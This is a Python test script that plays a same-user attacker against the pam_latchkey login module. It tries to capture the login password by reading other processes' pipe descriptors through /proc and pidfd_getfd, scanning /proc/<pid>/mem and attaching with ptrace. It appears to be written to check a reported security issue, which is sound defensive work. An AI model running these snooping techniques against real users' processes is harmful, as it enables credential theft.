#!/usr/bin/env python3
"""A program of the user that wants the login password (issue 50, point 4): while pam_latchkey runs the
`latchkey` tool as the user, it polls /proc for the user's other processes and tries every way in the kernel
might leave open to a process of the same user — the descriptors under /proc/<pid>/fd (a pipe opens there,
and its bytes can be read before the tool reads them), pidfd_getfd, /proc/<pid>/mem (a descriptor opened
while the process is dumpable keeps reading its memory afterwards) and a ptrace attach.

Usage: proc-snoop.py REPORT NEEDLE_HEX[,NEEDLE_HEX...]
Appends to REPORT: "ready" once it polls, "saw PID COMM" for each process of the user it looks at, one line
per way in that worked ("fd PID N TARGET", "read PID N HEX", "getfd PID N", "mem PID", "found PID",
"ptrace PID"), and "done N" (the rounds it polled) when SIGTERM ends it. The needles are only what it
looks for in the memory it manages to read. It ends itself after five minutes.
"""
import ctypes
import os
import signal
import sys
import time

report_path, needles = sys.argv[1], [bytes.fromhex(text) for text in sys.argv[2].split(",")]
me = os.getpid()
uid = os.getuid()
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SYS_PIDFD_GETFD = 438
PTRACE_SEIZE = 0x4206
PTRACE_INTERRUPT = 0x4207
PTRACE_DETACH = 17
WALL = 0x40000000
report = open(report_path, "a", buffering=1)
stopping = False


def stop(*_):
    global stopping
    stopping = True


signal.signal(signal.SIGTERM, stop)


def line(text):
    report.write(text + "\n")


def owner(pid):
    """The real uid in /proc/<pid>/status (readable whatever the process's dumpable flag)."""
    try:
        with open(f"/proc/{pid}/status") as status:
            for entry in status:
                if entry.startswith("Uid:"):
                    return int(entry.split()[1])
    except OSError:
        return None
    return None


def comm(pid):
    try:
        with open(f"/proc/{pid}/comm") as name:
            return name.read().strip()
    except OSError:
        return "?"


def drain(fd, pid, number):
    """Reads what a descriptor it got holds now (a pipe's bytes are taken from whoever should read them)."""
    try:
        os.set_blocking(fd, False)
        data = os.read(fd, 65536)
        if data:
            line(f"read {pid} {number} {data.hex()}")
    except OSError:
        pass


seen = set()
owners = {}  # pid -> (uid, first seen): a process changes its uid (pam_latchkey's child) only when young
memories = {}  # pid -> (mem fd, maps fd, next scan time)
traced = set()
opened = set()
rounds = 0
deadline = time.monotonic() + 300
line("ready")
while not stopping and time.monotonic() < deadline:
    rounds += 1
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        pid = int(entry)
        if pid == me:
            continue
        known = owners.get(pid)
        if known is None or time.monotonic() - known[1] < 2:
            known = (owner(pid), known[1] if known else time.monotonic())
            owners[pid] = known
        if known[0] != uid:
            continue
        # Its name as it is now: a child forked by pam_latchkey's child is called "pamtester" until it execs.
        name = comm(pid)
        if (pid, name) not in seen:
            seen.add((pid, name))
            line(f"saw {pid} {name}")
        # Its descriptors, through /proc (a pipe opens there; a socket does not).
        try:
            numbers = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            numbers = []
        for number in numbers:
            if (pid, number) in opened:
                continue
            try:
                target = os.readlink(f"/proc/{pid}/fd/{number}")
                fd = os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            opened.add((pid, number))
            line(f"fd {pid} {number} {target}")
            drain(fd, pid, number)
            os.close(fd)
        # The same descriptors through a pidfd.
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            pidfd = -1
        if pidfd >= 0:
            for number in range(0, 8):
                if (pid, f"getfd{number}") in opened:
                    continue
                fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0)
                if fd >= 0:
                    opened.add((pid, f"getfd{number}"))
                    line(f"getfd {pid} {number}")
                    drain(fd, pid, number)
                    os.close(fd)
            os.close(pidfd)
        # Its memory: a descriptor opened now keeps reading it later.
        if pid not in memories:
            try:
                mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
                maps = os.open(f"/proc/{pid}/maps", os.O_RDONLY)
                memories[pid] = (mem, maps, 0.0)
                line(f"mem {pid}")
            except OSError:
                pass
        if pid not in traced and libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            traced.add(pid)
            line(f"ptrace {pid}")
            # Let it go again at once (stopped for a moment): a tracer that never waits would freeze it at
            # its next signal, and the attack is to read, not to hang the login.
            libc.ptrace(PTRACE_INTERRUPT, pid, None, None)
            try:
                os.waitpid(pid, WALL)
            except OSError:
                pass
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    now = time.monotonic()
    for pid, (mem, maps, due) in list(memories.items()):
        if now < due:
            continue
        memories[pid] = (mem, maps, now + 0.02)
        try:
            regions = os.pread(maps, 1 << 20, 0).decode(errors="replace").splitlines()
        except OSError:
            continue
        for region in regions:
            fields = region.split()
            if len(fields) < 2 or not fields[1].startswith("rw"):
                continue
            start, end = (int(value, 16) for value in fields[0].split("-"))
            if end - start > 256 << 20:
                continue
            try:
                memory = os.pread(mem, end - start, start)
                if any(needle in memory for needle in needles):
                    line(f"found {pid}")
                    memories[pid] = (mem, maps, float("inf"))
                    break
            except OSError:
                continue
    time.sleep(0.0005)
line(f"done {rounds}")
